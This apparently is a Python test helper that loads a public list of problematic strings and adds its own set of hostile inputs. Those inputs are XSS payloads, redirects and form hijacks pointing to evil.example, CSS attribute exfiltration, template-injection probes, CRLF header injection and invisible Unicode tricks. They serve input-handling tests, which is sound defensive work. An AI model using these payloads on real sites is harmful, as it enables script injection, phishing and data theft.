"""Strings that have upset programs: the big list of them, and some that suit what is tested
here."""

import json
from pathlib import Path

MODULES = Path(__file__).resolve().parents[2] / "node_modules"
LIST = MODULES / "big-list-of-naughty-strings" / "blns.json"

# Text that would move a page, call a foreign host, or hide what stands around it.
MORE = [
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<form action=//evil.example><button>Sign in",
    "<input form=x formaction=//evil.example autofocus>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<style>@import '//evil.example/a.css';</style>",
    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<iframe src=javascript:parent.alert(1)>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=//evil.example/a.swf>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<math><mi//xlink:href=data:x,<script>alert(1)</script>>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.gif>",
    "<video poster=//evil.example/a.png>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>press</a>",
    "<a href=//evil.example target=_blank>press</a>",
    "<textarea><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</bdi></td></tr></table><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<dialog open>Your session has ended</dialog>",
    "<script src=/console/static/../../evil.js></script>",
    "<script nonce=x>alert(1)</script>",
    "\"><button data-copy=x data-show=password>Copy",
    "\" data-copy=\"evil",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "` onclick=`alert(1)",
    "{{7*7}}{% include \"base.html\" %}${7*7}#{7*7}<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u202e<tpircs>\u202d",
    "\u2066admin\u2069\u200b\u200e\u200f\ufeff",
    "line\u2028separator\u2029paragraph",
    "tab\tcr\rlf\ncrlf\r\nSet-Cookie: a=b",
    "bell\x07escape\x1b[2J\x1b]0;title\x07delete\x7f",
    "nul\x00nul",
    "\U000e0041\U000e0042\ufff9annotated\ufffb",
    "a" * 400,
    "\u0301" * 200,
    "\U0001f9d1\u200d\U0001f680" * 60,
]


def strings():
    """All of them."""
    return json.loads(LIST.read_text()) + MORE
